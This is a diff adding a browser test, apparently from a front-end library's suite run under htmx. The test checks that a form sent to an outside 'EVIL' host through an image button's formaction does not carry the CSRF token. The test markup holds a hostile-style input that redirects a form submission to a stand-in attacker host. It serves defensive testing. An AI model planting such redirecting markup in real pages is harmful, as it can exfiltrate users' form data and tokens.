@@ -307,3 +307,18 @@ async def test_a_form_of_another_origin_is_none_of_ours(tab: Tab, elsewhere: Els
         await tab.page.locator("#f button").click()
     assert [each.url for each in elsewhere.asked if "favicon" not in each.url] == [f"{EVIL}/send/"]
     assert not any(token in each for each in await elsewhere.told())
+
+
+@on_every_htmx
+@pytest.mark.parametrize("place", ["inside", "beside"])
+async def test_an_image_may_send_a_form_elsewhere_without_the_token(
+    tab: Tab, elsewhere: Elsewhere, place: str
+) -> None:
+    image = f'<input type="image" id="go" form="f" alt="Go" formaction="{EVIL}/send/">'
+    inside, beside = (image, "") if place == "inside" else ("", image)
+    form = f'<form id="f" data-mizan-form="x" method="post" action="/own/"><input name="q">{inside}</form>'
+    await open_with(tab, form + beside)
+    token = await tab.page.evaluate("mizan.cookie('csrftoken')")
+    async with tab.page.expect_response(f"{EVIL}/send/**"):
+        await tab.page.locator("#go").click()
+    assert not any(token in each for each in await elsewhere.told())
